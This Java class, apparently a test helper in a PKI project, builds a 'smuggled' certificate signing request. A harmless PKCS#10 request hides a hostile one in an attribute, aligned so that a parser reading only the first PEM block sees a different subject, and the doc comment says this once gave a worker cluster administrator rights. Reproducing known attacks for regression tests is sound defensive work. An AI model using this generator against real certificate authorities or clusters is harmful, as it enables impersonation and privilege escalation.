package io.nodelet.pki;

import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import org.bouncycastle.asn1.ASN1EncodableVector;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERSequence;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.operator.OperatorCreationException;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
import org.bouncycastle.pkcs.jcajce.JcaPKCS10CertificationRequestBuilder;

/// The text by which a worker once became the cluster's administrator: a harmless request that holds a hostile one in
/// an attribute, with PEM's BEGIN and END around the hostile one alone. Who decodes all of the text reads the harmless
/// request, who takes the first PEM block reads the other.
public final class SmuggledRequest {
    private static final String BEGIN = "-----BEGIN CERTIFICATE REQUEST-----\n";
    private static final String END = "-----END CERTIFICATE REQUEST-----\n";

    private SmuggledRequest() {}

    /// @param harmless the subject that all of the text names
    /// @param hostile  the subject that the PEM block names; letters are added to its end until it fits
    public static String pem(KeyPair keys, String harmless, String hostile) throws Exception {
        byte[] inner = request(keys, hostile, null);
        for (int letters = 0; inner.length % 3 != 0; letters++) {
            inner = request(keys, hostile + "x".repeat(letters % 7), null);
        }
        for (int pad = 0; ; pad++) { // three will not do where a length needs another byte meanwhile
            byte[] outer = request(keys, harmless, attribute(pad, inner));
            int at = HexFormat.of().formatHex(outer).indexOf(HexFormat.of().formatHex(inner)) / 2;
            if (at % 3 == 0) {
                return wrapped(outer, at, inner.length);
            }
        }
    }

    private static DERSequence attribute(int pad, byte[] inner) {
        var values = new ASN1EncodableVector();
        values.add(new DEROctetString(new byte[pad]));
        values.add(new DEROctetString(inner));
        return new DERSequence(values);
    }

    private static byte[] request(
            KeyPair keys, String subject, @org.jspecify.annotations.Nullable DERSequence attribute)
            throws OperatorCreationException, java.io.IOException {
        var builder = new JcaPKCS10CertificationRequestBuilder(new X500Name(subject), keys.getPublic());
        if (attribute != null) {
            builder.addAttribute(new ASN1ObjectIdentifier("1.2.3.4.5"), attribute);
        }
        return builder.build(new JcaContentSignerBuilder("SHA256withECDSA").build(keys.getPrivate()))
                .getEncoded();
    }

    private static String wrapped(byte[] outer, int at, int length) {
        Base64.Encoder lines = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII));
        return Base64.getEncoder().encodeToString(Arrays.copyOf(outer, at)) + "\n" + BEGIN
                + lines.encodeToString(Arrays.copyOfRange(outer, at, at + length)) + "\n" + END
                + Base64.getEncoder().encodeToString(Arrays.copyOfRange(outer, at + length, outer.length)) + "\n";
    }
}
